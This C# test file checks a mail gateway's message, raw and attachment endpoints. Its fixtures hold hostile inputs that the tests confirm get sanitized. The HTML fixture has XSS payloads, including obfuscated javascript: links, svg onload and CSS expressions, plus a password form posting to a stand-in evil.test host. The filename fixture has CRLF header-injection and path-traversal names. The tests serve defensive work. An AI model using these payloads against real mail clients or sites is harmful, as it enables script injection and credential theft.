using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Gateway.Core.Mailboxes;
using Gateway.Core.Messages;
using Gateway.Tests.Infrastructure;
using MailKit;
using MimeKit;

namespace Gateway.Tests.Messages;

/// <summary>GET message, raw and attachment with hand-made messages: hostile HTML and file names, \Seen, errors.</summary>
public sealed partial class MessageReadTests
{
    private static readonly byte[] Png = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");

    [Fact]
    public async Task Get_HostileHtml_IsSanitizedAndCidPointsAtTheServedImage()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("html");
        var (client, accountId, _) = await app.LoginAsync(user);
        var id = await AppendAsync(accountId, user, HostileHtmlMessage());

        var json = await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{id}");
        var html = json.GetProperty("html").GetString()!;

        Assert.Empty(HtmlSafety.Problems(html, allowRemote: false));
        Assert.DoesNotContain("tracker.test", html, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", html, StringComparison.Ordinal);
        Assert.DoesNotContain("alert", html, StringComparison.Ordinal);
        Assert.Contains("<b>world</b>", html, StringComparison.Ordinal);
        Assert.True(json.GetProperty("text").ValueKind == JsonValueKind.Null);

        var document = new HtmlParser().ParseDocument(html);
        var link = Assert.Single(document.QuerySelectorAll("a[href]"));
        Assert.Equal("https://example.test/page", link.GetAttribute("href"));
        Assert.Equal("_blank", link.GetAttribute("target"));
        Assert.Equal("noopener noreferrer", link.GetAttribute("rel"));

        // Both inline images (one named, one only with a Content-ID) are attachments, and cid: points at them.
        var attachments = json.GetProperty("attachments").EnumerateArray().ToList();
        Assert.Equal(2, attachments.Count);
        Assert.True(json.GetProperty("hasAttachments").GetBoolean());
        foreach (var (cid, alt) in new[] { ("logo@example.test", "logo"), ("unnamed@example.test", "unnamed") })
        {
            var attachment = attachments.Single(a => a.GetProperty("contentId").GetString() == cid);
            var url = $"/api/v1/accounts/{accountId}/messages/{id}/attachments/{attachment.GetProperty("id").GetString()}";
            var image = document.QuerySelectorAll("img").Single(i => i.GetAttribute("alt") == alt);
            Assert.Equal(url, image.GetAttribute("src"));

            using var served = await client.GetAsync(url);
            Assert.Equal(HttpStatusCode.OK, served.StatusCode);
            Assert.Equal("image/png", served.Content.Headers.ContentType?.MediaType);
            Assert.Equal(Png, await served.Content.ReadAsByteArrayAsync());
            Assert.Equal("nosniff", served.Headers.GetValues("X-Content-Type-Options").Single());
            Assert.Equal(Png.Length, attachment.GetProperty("size").GetInt64());
            Assert.Equal("image/png", attachment.GetProperty("contentType").GetString());
        }

        Assert.Equal("logo.png", attachments.Single(a => a.GetProperty("contentId").GetString() == "logo@example.test").GetProperty("filename").GetString());
        Assert.Equal("inline", attachments[0].GetProperty("disposition").GetString());

        // Remote loads come back when asked for; active content never does.
        var remote = (await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{id}?allowRemote=true")).GetProperty("html").GetString()!;
        Assert.Empty(HtmlSafety.Problems(remote, allowRemote: true));
        Assert.DoesNotContain("alert", remote, StringComparison.Ordinal);
        var remoteDocument = new HtmlParser().ParseDocument(remote);
        Assert.Equal("http://tracker.test/pixel.gif", remoteDocument.QuerySelectorAll("img").Single(i => i.GetAttribute("alt") == "remote").GetAttribute("src"));
        Assert.Contains("https://tracker.test/a.png", remoteDocument.QuerySelectorAll("img").Single(i => i.GetAttribute("alt") == "srcset").GetAttribute("srcset"), StringComparison.Ordinal);
        Assert.Contains("https://tracker.test/bg.png", remote, StringComparison.Ordinal);
        Assert.Contains("https://tracker.test/cell.png", remote, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.test", remote, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(-1)]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(MessageReader.ChunkSize + 17)]
    public async Task Get_MessageAroundTheChunkSize_IsReadWhole(int bytesBeyondOneChunk)
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("chunks");
        var (client, accountId, _) = await app.LoginAsync(user);
        var raw = PlainMessageOfSize(MessageReader.ChunkSize + bytesBeyondOneChunk);
        string id;
        await using (var appender = await RawAppender.ConnectAsync(user))
        {
            var (uidValidity, uid) = await appender.AppendAsync("INBOX", raw);
            id = MessageIds.For(MailboxIds.For(accountId, "INBOX"), uidValidity, uid);
        }

        var json = await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{id}");

        Assert.Equal(raw.Length, json.GetProperty("size").GetInt64());
        Assert.Equal("Chunks", json.GetProperty("subject").GetString());
        var whole = Encoding.ASCII.GetString(raw);
        var body = whole[(whole.IndexOf("\r\n\r\n", StringComparison.Ordinal) + 4)..].Replace("\r\n", "\n", StringComparison.Ordinal);
        Assert.StartsWith("FIRST-LINE\n", body, StringComparison.Ordinal);
        Assert.EndsWith("LAST-LINE\n", body, StringComparison.Ordinal);
        Assert.Equal(body, json.GetProperty("text").GetString());
    }

    /// <summary>A text/plain message of exactly <paramref name="size"/> bytes (CRLF lines): FIRST-LINE, filler, LAST-LINE.</summary>
    private static byte[] PlainMessageOfSize(int size)
    {
        var head = "From: a@example.test\r\nTo: b@example.test\r\nSubject: Chunks\r\nMessage-ID: <chunks@example.test>\r\n"
            + "Content-Type: text/plain; charset=us-ascii\r\n\r\nFIRST-LINE\r\n";
        const string Tail = "LAST-LINE\r\n";
        var filler = size - head.Length - Tail.Length;
        var body = new StringBuilder(filler);
        while (body.Length < filler)
        {
            var line = Math.Min(76, filler - body.Length - 2);
            body.Append(line > 0 ? new string('x', line) : string.Empty).Append("\r\n");
        }

        var bytes = Encoding.ASCII.GetBytes(head + body + Tail);
        Assert.Equal(size, bytes.Length);
        return bytes;
    }

    [Fact]
    public async Task GetAttachment_HostileFileNames_ContentDispositionIsWellFormedAndCarriesTheName()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("names");
        var (client, accountId, _) = await app.LoginAsync(user);
        var (raw, names) = HostileNamesMessage();
        string id;
        await using (var appender = await RawAppender.ConnectAsync(user))
        {
            var (uidValidity, uid) = await appender.AppendAsync("INBOX", raw);
            id = MessageIds.For(MailboxIds.For(accountId, "INBOX"), uidValidity, uid);
        }

        var json = await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{id}");
        var attachments = json.GetProperty("attachments").EnumerateArray().ToList();
        Assert.Equal(names.Count, attachments.Count);
        for (var i = 0; i < names.Count; i++)
        {
            var (decoded, downloadName) = names[i];
            Assert.Equal(decoded, attachments[i].GetProperty("filename").GetString());

            using var response = await client.GetAsync($"/api/v1/accounts/me/messages/{id}/attachments/{attachments[i].GetProperty("id").GetString()}");
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.Equal($"content of {i}", await response.Content.ReadAsStringAsync());

            var header = Assert.Single(response.Content.Headers.GetValues("Content-Disposition"));
            Assert.Matches(SafeContentDisposition(), header);
            Assert.False(response.Headers.Contains("X-Injected"));
            Assert.False(response.Content.Headers.Contains("X-Injected"));
            var disposition = response.Content.Headers.ContentDisposition!;
            Assert.Equal("attachment", disposition.DispositionType);
            Assert.Equal(downloadName, disposition.FileNameStar);
            Assert.Equal(2, disposition.Parameters.Count);
        }
    }

    [Fact]
    public async Task Get_PlainMessage_ReadingNeverSetsSeen()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("seen");
        var (client, accountId, _) = await app.LoginAsync(user);
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Ann Sender", "ann@example.test"));
        message.To.Add(new MailboxAddress("Bob", "bob@example.test"));
        message.Bcc.Add(new MailboxAddress("Hidden", "hidden@example.test"));
        message.Subject = "Grüße";
        message.MessageId = "plain-1@example.test";
        message.InReplyTo = "parent@example.test";
        message.References.Add("root@example.test");
        message.References.Add("parent@example.test");
        message.Headers.Add("X-Custom", "=?UTF-8?Q?caf=C3=A9?=");
        message.Body = new Multipart("mixed")
        {
            new TextPart("plain") { Text = "Hello there.\r\nSecond line.\r\n" },
            new MimePart("application", "pdf")
            {
                Content = new MimeContent(new MemoryStream(Encoding.ASCII.GetBytes("%PDF-1.4 tiny"))),
                ContentDisposition = new ContentDisposition(ContentDisposition.Attachment),
                ContentTransferEncoding = ContentEncoding.Base64,
                FileName = "report.pdf",
            },
        };
        var id = await AppendAsync(accountId, user, message);

        var json = await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{id}");
        using var raw = await client.GetAsync($"/api/v1/accounts/me/messages/{id}/raw");
        using var attachment = await client.GetAsync($"/api/v1/accounts/me/messages/{id}/attachments/p2");

        Assert.Equal(HttpStatusCode.OK, raw.StatusCode);
        Assert.Equal(HttpStatusCode.OK, attachment.StatusCode);
        Assert.Equal("%PDF-1.4 tiny", await attachment.Content.ReadAsStringAsync());
        Assert.False(json.GetProperty("seen").GetBoolean());
        Assert.Equal("Grüße", json.GetProperty("subject").GetString());
        Assert.Equal("Hello there.\nSecond line.\n", json.GetProperty("text").GetString());
        Assert.True(json.GetProperty("html").ValueKind == JsonValueKind.Null);
        Assert.Equal("hidden@example.test", json.GetProperty("bcc")[0].GetProperty("address").GetString());
        Assert.Equal(["root@example.test", "parent@example.test"], json.GetProperty("references").EnumerateArray().Select(e => e.GetString()));
        Assert.Equal("parent@example.test", json.GetProperty("inReplyTo").GetString());
        Assert.Equal("plain-1@example.test", json.GetProperty("messageId").GetString());
        var headers = json.GetProperty("headers").EnumerateArray().Select(h => (h.GetProperty("name").GetString(), h.GetProperty("value").GetString())).ToList();
        Assert.Contains(("X-Custom", "café"), headers);
        Assert.Contains(headers, h => h.Item1 == "Content-Type" && h.Item2!.StartsWith("multipart/mixed", StringComparison.Ordinal));
        Assert.True(headers.FindIndex(h => h.Item1 == "Subject") < headers.FindIndex(h => h.Item1 == "Content-Type"));
        var pdf = Assert.Single(json.GetProperty("attachments").EnumerateArray());
        Assert.Equal("p2", pdf.GetProperty("id").GetString());
        Assert.Equal(13, pdf.GetProperty("size").GetInt64());
        Assert.Equal("attachment", pdf.GetProperty("disposition").GetString());

        await using var imap = await TestImap.ConnectAsync(user);
        var inbox = await imap.ExamineAsync("INBOX");
        var flags = Assert.Single(await inbox.FetchAsync(0, -1, MessageSummaryItems.Flags));
        Assert.False(flags.Flags!.Value.HasFlag(MailKit.MessageFlags.Seen));
    }

    [Fact]
    public async Task Get_MalformedIds_Answer400()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("bad-ids");
        var (client, accountId, _) = await app.LoginAsync(user);
        var valid = await AppendAsync(accountId, user, SimpleMessage());

        foreach (var bad in new[] { "not-an-id", new string('A', 32), new string('x', 70), "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", valid[..^1] + "!" })
        {
            foreach (var suffix in new[] { string.Empty, "/raw", "/attachments/p1" })
            {
                using var response = await client.GetAsync($"/api/v1/accounts/me/messages/{Uri.EscapeDataString(bad)}{suffix}");
                var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.BadRequest, "validation-failed");
                Assert.True(problem.GetProperty("errors").TryGetProperty("messageId", out _), bad + suffix);
            }
        }

        foreach (var bad in new[] { "p0", "x1", "p1-", "p1--2", "p01", "p", "p" + string.Concat(Enumerable.Repeat("1-", 40)) + "1", "p123456" })
        {
            using var response = await client.GetAsync($"/api/v1/accounts/me/messages/{valid}/attachments/{bad}");
            var problem = await ProblemAssert.IsProblemAsync(response, HttpStatusCode.BadRequest, "validation-failed");
            Assert.True(problem.GetProperty("errors").TryGetProperty("attachmentId", out _), bad);
        }
    }

    [Fact]
    public async Task Get_UnknownUidMailboxOrAttachment_Answer404()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("unknown");
        var (client, accountId, _) = await app.LoginAsync(user);
        var valid = await AppendAsync(accountId, user, SimpleMessage());
        Assert.True(MessageIds.TryParse(valid, out var reference));

        var unknownUid = MessageIds.For(reference.MailboxId, reference.UidValidity, reference.Uid + 1000);
        var unknownMailbox = MessageIds.For(MailboxIds.For(accountId, "No such mailbox"), reference.UidValidity, reference.Uid);
        foreach (var id in new[] { unknownUid, unknownMailbox })
        {
            foreach (var suffix in new[] { string.Empty, "/raw", "/attachments/p1" })
            {
                using var response = await client.GetAsync($"/api/v1/accounts/me/messages/{id}{suffix}");
                await ProblemAssert.IsProblemAsync(response, HttpStatusCode.NotFound, "message-not-found");
            }
        }

        using var noAttachment = await client.GetAsync($"/api/v1/accounts/me/messages/{valid}/attachments/p9");
        await ProblemAssert.IsProblemAsync(noAttachment, HttpStatusCode.NotFound, "message-not-found");
        using var ok = await client.GetAsync($"/api/v1/accounts/me/messages/{valid}");
        Assert.Equal(HttpStatusCode.OK, ok.StatusCode);
    }

    [Fact]
    public async Task Get_AfterMailboxDeletedAndRecreated_Answers410ThenOldIdsNeverNameNewMessages()
    {
        await using var app = new GatewayApplication();
        var user = MailEnvironment.NewUser("recreate");
        var (client, accountId, _) = await app.LoginAsync(user);
        await using var imap = await TestImap.ConnectAsync(user);
        var uid = await imap.AppendAsync("Projects", SimpleMessage());
        var folder = await imap.FolderAsync("Projects");
        await folder.StatusAsync(StatusItems.UidValidity);
        var oldValidity = folder.UidValidity;
        var mailboxId = MailboxIds.For(accountId, "Projects");
        var id = MessageIds.For(mailboxId, oldValidity, uid);
        using (var before = await client.GetAsync($"/api/v1/accounts/me/messages/{id}"))
        {
            Assert.Equal(HttpStatusCode.OK, before.StatusCode);
        }

        // Deleted: the message is gone.
        await folder.DeleteAsync();
        using (var deleted = await client.GetAsync($"/api/v1/accounts/me/messages/{id}"))
        {
            await ProblemAssert.IsProblemAsync(deleted, HttpStatusCode.NotFound, "message-not-found");
        }

        // Recreated under the same name, with a message at the same UID: the old id answers 410, never the new message.
        var root = imap.Client.GetFolder(imap.Client.PersonalNamespaces[0])!;
        await root.CreateAsync("Projects", isMessageFolder: true);
        var newUid = await imap.AppendAsync("Projects", SimpleMessage("Another message"));
        var recreated = await imap.FolderAsync("Projects");
        await recreated.StatusAsync(StatusItems.UidValidity);
        Assert.NotEqual(oldValidity, recreated.UidValidity);
        Assert.Equal(uid, newUid);
        foreach (var suffix in new[] { string.Empty, "/raw", "/attachments/p1" })
        {
            using var gone = await client.GetAsync($"/api/v1/accounts/me/messages/{id}{suffix}");
            await ProblemAssert.IsProblemAsync(gone, HttpStatusCode.Gone, "uidvalidity-changed");
        }

        var json = await client.GetFromJsonElementAsync($"/api/v1/accounts/me/messages/{MessageIds.For(mailboxId, recreated.UidValidity, newUid)}");
        Assert.Equal("Another message", json.GetProperty("subject").GetString());
    }

    [Fact]
    public async Task Get_MessageIdOfAnotherAccount_Answers404()
    {
        await using var app = new GatewayApplication();
        var owner = MailEnvironment.NewUser("owner");
        var (ownerClient, ownerAccount, _) = await app.LoginAsync(owner);
        var id = await AppendAsync(ownerAccount, owner, SimpleMessage());
        var (otherClient, _, _) = await app.LoginAsync(MailEnvironment.NewUser("other"));

        using (var mine = await ownerClient.GetAsync($"/api/v1/accounts/me/messages/{id}"))
        {
            Assert.Equal(HttpStatusCode.OK, mine.StatusCode);
        }

        foreach (var suffix in new[] { string.Empty, "/raw", "/attachments/p1" })
        {
            using var response = await otherClient.GetAsync($"/api/v1/accounts/me/messages/{id}{suffix}");
            await ProblemAssert.IsProblemAsync(response, HttpStatusCode.NotFound, "message-not-found");
        }

        using var viaOwnersAccount = await otherClient.GetAsync($"/api/v1/accounts/{ownerAccount}/messages/{id}");
        Assert.Equal(HttpStatusCode.NotFound, viaOwnersAccount.StatusCode);
    }

    [Fact]
    public async Task OpenApi_ReadOperations_DescribeJsonRawAndBinaryAnswers()
    {
        await using var app = new GatewayApplication();
        using var document = JsonDocument.Parse(await app.CreateClient().GetStringAsync("/swagger/v1/swagger.json"));
        var paths = document.RootElement.GetProperty("paths");

        var get = paths.GetProperty("/api/v1/accounts/{accountId}/messages/{messageId}").GetProperty("get");
        Assert.Equal("getMessage", get.GetProperty("operationId").GetString());
        Assert.True(get.GetProperty("responses").GetProperty("200").GetProperty("content").TryGetProperty("application/json", out _));
        Assert.Contains(get.GetProperty("parameters").EnumerateArray(), p => p.GetProperty("name").GetString() == "allowRemote");
        Assert.True(get.GetProperty("responses").TryGetProperty("410", out _));

        foreach (var (path, operationId, mediaType) in new[]
        {
            ("/api/v1/accounts/{accountId}/messages/{messageId}/raw", "getMessageRaw", "message/rfc822"),
            ("/api/v1/accounts/{accountId}/messages/{messageId}/attachments/{attachmentId}", "getMessageAttachment", "application/octet-stream"),
        })
        {
            var operation = paths.GetProperty(path).GetProperty("get");
            Assert.Equal(operationId, operation.GetProperty("operationId").GetString());
            var content = operation.GetProperty("responses").GetProperty("200").GetProperty("content");
            var schema = Assert.Single(content.EnumerateObject(), c => c.Name == mediaType).Value.GetProperty("schema");
            Assert.Equal("string", schema.GetProperty("type").GetString());
            Assert.Equal("binary", schema.GetProperty("format").GetString());
            Assert.Single(content.EnumerateObject());
        }
    }

    private static async Task<string> AppendAsync(string accountId, string user, MimeMessage message, string mailbox = "INBOX")
    {
        await using var imap = await TestImap.ConnectAsync(user);
        var uid = await imap.AppendAsync(mailbox, message);
        var folder = await imap.FolderAsync(mailbox);
        await folder.StatusAsync(StatusItems.UidValidity);
        return MessageIds.For(MailboxIds.For(accountId, mailbox), folder.UidValidity, uid);
    }

    private static MimeMessage SimpleMessage(string subject = "Simple")
    {
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Ann", "ann@example.test"));
        message.To.Add(new MailboxAddress("Bob", "bob@example.test"));
        message.Subject = subject;
        message.Body = new TextPart("plain") { Text = "Just text.\r\n" };
        return message;
    }

    private static MimeMessage HostileHtmlMessage()
    {
        const string Html = """
            <html><head>
            <style>body { background: url(http://evil.test/s.png) }</style>
            <script>alert(1)</script>
            <meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
            <link rel="stylesheet" href="http://evil.test/x.css">
            <base href="http://evil.test/">
            </head>
            <body onload="alert(2)">
            <p onclick="alert(3)" onmouseover="alert(3)">Hello <b>world</b></p>
            <img src="http://tracker.test/pixel.gif" onerror="alert(4)" alt="remote">
            <img src="cid:logo@example.test" alt="logo">
            <img src="cid:unnamed%40example.test" alt="unnamed">
            <img srcset="https://tracker.test/a.png 1x, https://tracker.test/b.png 2x" alt="srcset">
            <div style="background-image: url('https://tracker.test/bg.png'); color: red">bg</div>
            <div style="background-image: image-set('https://evil.test/set.png' 1x)">set</div>
            <table background="https://tracker.test/table.png"><tr><td background="https://tracker.test/cell.png">cell</td></tr></table>
            <a href="javascript:alert(5)">js</a>
            <a href="JaVaScRiPt&#58;alert(6)">js2</a>
            <a href=" java&#x09;script:alert(7)">js3</a>
            <a href="data:text/html,<script>alert(8)</script>">data link</a>
            <a href="https://example.test/page" onclick="alert(9)">link</a>
            <form action="https://evil.test/steal"><input name="password"><button formaction="https://evil.test/b">Go</button></form>
            <iframe src="https://evil.test/frame"></iframe>
            <object data="https://evil.test/object"></object>
            <embed src="https://evil.test/embed">
            <svg onload="alert(10)"><script>alert(11)</script></svg>
            <video poster="https://evil.test/poster.png" src="https://evil.test/v.mp4"></video>
            <span style="behavior: url(https://evil.test/x.htc); width: expression(alert(12))">css</span>
            <img src="//tracker.test/protocol-relative.png" alt="relative">
            </body></html>
            """;
        var message = new MimeMessage();
        message.From.Add(new MailboxAddress("Mallory", "mallory@example.test"));
        message.To.Add(new MailboxAddress("Victim", "victim@example.test"));
        message.Subject = "Hostile HTML";
        var logo = new MimePart("image", "png")
        {
            Content = new MimeContent(new MemoryStream(Png)),
            ContentDisposition = new ContentDisposition(ContentDisposition.Inline),
            ContentTransferEncoding = ContentEncoding.Base64,
            ContentId = "logo@example.test",
            FileName = "logo.png",
        };
        var unnamed = new MimePart("image", "png")
        {
            Content = new MimeContent(new MemoryStream(Png)),
            ContentTransferEncoding = ContentEncoding.Base64,
            ContentId = "unnamed@example.test",
        };
        message.Body = new MultipartRelated { new TextPart("html") { Text = Html }, logo, unnamed };
        return message;
    }

    /// <summary>A message with hostile attachment names, written by hand (MimeKit would not write some of them), and
    /// per attachment the decoded name and the name a download must carry.</summary>
    private static (byte[] Raw, List<(string Decoded, string Download)> Names) HostileNamesMessage()
    {
        var parts = new List<(string Headers, string Decoded, string Download)>
        {
            ("Content-Type: text/plain; name=\"evil\\\"name.txt\"\r\nContent-Disposition: attachment; filename=\"evil\\\"name.txt\"",
                "evil\"name.txt", "evil\"name.txt"),
            ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=UTF-8''a%0D%0AX-Injected%3A%201.txt",
                "a\r\nX-Injected: 1.txt", "aX-Injected: 1.txt"),
            ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"semi;colon; x=y.txt\"",
                "semi;colon; x=y.txt", "semi;colon; x=y.txt"),
            ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"../../etc/passwd\"",
                "../../etc/passwd", "_.._etc_passwd"),
            ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"..\\\\windows\\\\evil.dll\"",
                "..\\windows\\evil.dll", "_windows_evil.dll"),
            ("Content-Type: application/pdf; name=\"=?UTF-8?B?csOpc3Vtw6kg5bGl5q205pu4LnBkZg==?=\"\r\nContent-Disposition: attachment",
                "résumé 履歴書.pdf", "résumé 履歴書.pdf"),
            ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n filename*0*=UTF-8''%E2%82%AC%20rates%20;\r\n filename*1*=%22quoted%22%3B%20and%0D%0Anew;\r\n filename*2=\" line.txt\"",
                "€ rates \"quoted\"; and\r\nnew line.txt", "€ rates \"quoted\"; andnew line.txt"),
        };
        var raw = new StringBuilder();
        raw.Append("From: Mallory <mallory@example.test>\r\nTo: victim@example.test\r\nSubject: Hostile names\r\nMIME-Version: 1.0\r\n");
        raw.Append("Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\nIntro.\r\n");
        raw.Append("--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n");
        for (var i = 0; i < parts.Count; i++)
        {
            raw.Append("--b\r\n").Append(parts[i].Headers).Append("\r\nContent-Transfer-Encoding: base64\r\n\r\n");
            raw.Append(Convert.ToBase64String(Encoding.ASCII.GetBytes($"content of {i}"))).Append("\r\n");
        }

        raw.Append("--b--\r\n");
        return (Encoding.UTF8.GetBytes(raw.ToString()), parts.Select(p => (p.Decoded, p.Download)).ToList());
    }

    // attachment; filename="<printable ASCII without quote, backslash, semicolon>"; filename*=UTF-8''<attr-chars and %XX>
    [GeneratedRegex("""^attachment; filename="[ !#-:<-\[\]-~]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]*$""")]
    private static partial Regex SafeContentDisposition();
}
